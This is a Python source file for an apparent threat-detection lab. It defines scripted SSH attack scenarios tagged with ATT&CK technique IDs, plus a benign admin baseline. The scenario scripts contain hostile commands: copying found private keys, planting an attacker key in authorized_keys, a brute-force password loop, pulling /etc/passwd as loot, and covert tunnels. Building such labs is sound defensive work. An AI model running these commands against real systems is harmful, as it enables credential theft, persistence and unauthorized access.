"""The lab's scenarios: what an attacker (or, for the baseline, an administrator) types on the
attacker host, run by `sh` in the attacker namespace.

Placeholders `@NAME@` are replaced before the run (target address, user names, password, paths),
so `scenarios.json` records the concrete commands. The Atomic Red Team tests T1021.004 (none for
Linux), T1098.004, T1552.004, T1572 and T1110 informed the choice; the commands are our own.
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Scenario:
    name: str
    title: str
    techniques: tuple[str, ...]
    script: str
    actor: str = "attacker"  # "attacker": root on the attacker host; "admin": the admin user there
    atomic: bool = False  # one of the four Atomic-style scenarios the live test checks
    benign: bool = False  # the baseline: its alerts are false positives
    needs: tuple[str, ...] = field(default_factory=tuple)  # tools beyond ssh/sshpass


# Background tunnels (-f) are ended by the attacker with pkill limited to the attacker host's
# network namespace (--ns), so nothing else on the machine can match.
# The attacker does not know the target's host key, so it skips the check, as the Atomic tests do.
NOCHECK = "-o StrictHostKeyChecking=no"

SCENARIOS: list[Scenario] = [
    Scenario(
        "ssh_password", "lateral movement with a password, running commands",
        ("T1021.004", "T1078"),
        # -tt: a terminal session, as an operator's shell would have (sshd then audits the login)
        f"sshpass -p '@PASSWORD@' ssh -tt {NOCHECK} @VICTIM@@@TARGET@ 'id; uname -a; cat /etc/hostname'\n",
        atomic=True),
    Scenario(
        "socks_tunnel", "dynamic (SOCKS) forward in the background: ssh -D 1080 -N -f",
        ("T1572", "T1090"),
        # with a key: under sshpass, -f's fork can lose a race with sshpass's exit (SIGHUP)
        f"ssh -i /home/@VICTIM@/.ssh/id_rsa {NOCHECK} -D 1080 -N -f @VICTIM@@@TARGET@\n"
        "sleep 2\n"
        "pkill --ns $$ --nslist net -f '^ssh .*-D 1080'\n",
        atomic=True),
    Scenario(
        "authorized_keys", "a new attacker key appended to the victim's authorized_keys, then used",
        ("T1098.004",),
        "ssh-keygen -q -t ed25519 -N '' -C kali@attacker -f /tmp/.k\n"
        "key=$(cat /tmp/.k.pub)\n"
        f"sshpass -p '@PASSWORD@' ssh {NOCHECK} @VICTIM@@@TARGET@ "
        "\"mkdir -p ~/.ssh && echo '$key' >> ~/.ssh/authorized_keys\"\n"
        f"ssh -i /tmp/.k {NOCHECK} -o BatchMode=yes @VICTIM@@@TARGET@ id\n",
        atomic=True),
    Scenario(
        "stolen_key", "private key found and copied, then used: ssh -i /tmp/stolen_id_rsa",
        ("T1552.004", "T1021.004"),
        "find /home -name id_rsa -exec cp {} /tmp/stolen_id_rsa \\; 2>/dev/null\n"
        "chmod 600 /tmp/stolen_id_rsa\n"
        f"ssh -i /tmp/stolen_id_rsa {NOCHECK} @VICTIM@@@TARGET@ 'id; ls -la ~'\n",
        atomic=True),
    Scenario(
        "proxycommand", "a second hop through the target with ProxyCommand (ssh -W)",
        ("T1572", "T1021.004"),
        "K=/home/@VICTIM@/.ssh/id_rsa\n"
        f"ssh -i $K {NOCHECK} -o \"ProxyCommand=ssh -i $K {NOCHECK} -W %h:%p @VICTIM@@@TARGET@\" "
        "@VICTIM@@127.0.0.1 hostname\n"),
    Scenario(
        "proxyjump", "a second hop through the target with ProxyJump (ssh -J)",
        ("T1572", "T1021.004"),
        # -J does not pass command-line options to the jump host's ssh, -F is passed
        "printf 'IdentityFile /home/@VICTIM@/.ssh/id_rsa\\nStrictHostKeyChecking no\\n' > /tmp/.j\n"
        "ssh -F /tmp/.j -J @VICTIM@@@TARGET@ @VICTIM@@127.0.0.1 hostname\n"),
    Scenario(
        "local_forward", "local forward to the target's loopback sshd (-L), used, then closed",
        ("T1572",),
        "K=/home/@VICTIM@/.ssh/id_rsa\n"
        f"ssh -i $K {NOCHECK} -f -N -L 2222:127.0.0.1:22 @VICTIM@@@TARGET@\n"
        f"ssh -i $K {NOCHECK} -p 2222 @VICTIM@@127.0.0.1 id\n"
        "pkill --ns $$ --nslist net -f '^ssh .*-L 2222:'\n"),
    Scenario(
        "remote_forward", "remote forward (-R) opening a port on the target back to the attacker",
        ("T1572",),
        "K=/home/@VICTIM@/.ssh/id_rsa\n"
        f"ssh -i $K {NOCHECK} -f -N -R 4444:127.0.0.1:4444 @VICTIM@@@TARGET@\n"
        "sleep 2\n"
        "pkill --ns $$ --nslist net -f '^ssh .*-R 4444:'\n"),
    Scenario(
        "scp_transfer", "scp: a tool uploaded to the victim's home, /etc/passwd downloaded",
        ("T1105", "T1048", "T1021.004"),
        "K=/home/@VICTIM@/.ssh/id_rsa\n"
        "printf '#!/bin/sh\\nid\\n' > /tmp/agent.sh\n"
        f"scp -i $K {NOCHECK} /tmp/agent.sh @VICTIM@@@TARGET@:.agent.sh\n"
        f"scp -i $K {NOCHECK} @VICTIM@@@TARGET@:/etc/passwd /tmp/loot_passwd\n"),
    Scenario(
        "brute_force", "password guessing (5 wrong passwords, 2 unknown users), then success",
        ("T1110.001", "T1021.004"),
        "for p in 123456 password qwerty letmein Winter2025; do\n"
        f"  sshpass -p \"$p\" ssh {NOCHECK} -o NumberOfPasswordPrompts=1 @VICTIM@@@TARGET@ true\n"
        "done\n"
        "for u in oracle postgres; do\n"
        f"  sshpass -p admin ssh {NOCHECK} -o NumberOfPasswordPrompts=1 $u@@TARGET@ true\n"
        "done\n"
        f"sshpass -p '@PASSWORD@' ssh {NOCHECK} @VICTIM@@@TARGET@ id\n"),
    Scenario(
        "container_ssh", "ssh client started inside a runc container (busybox rootfs) on the attacker host",
        ("T1610", "T1021.004"),
        "runc run --bundle @BUNDLE@ thlab-ssh\n",
        needs=("runc", "busybox")),
    Scenario(
        "baseline", "benign: the admin's ordinary ssh and scp, default options, key auth",
        (),
        "ssh @ADMIN@@@TARGET@ uptime\n"
        "echo 'weekly report' > /tmp/report.txt\n"
        "scp /tmp/report.txt @ADMIN@@@TARGET@:\n"
        "ssh @ADMIN@@@TARGET@ 'df -h / && ls -l report.txt'\n",
        actor="admin", benign=True),
]

BY_NAME = {s.name: s for s in SCENARIOS}
ATOMIC = [s.name for s in SCENARIOS if s.atomic]


def render(script: str, values: dict[str, str]) -> str:
    for key, value in values.items():
        script = script.replace(f"@{key}@", value)
    return script
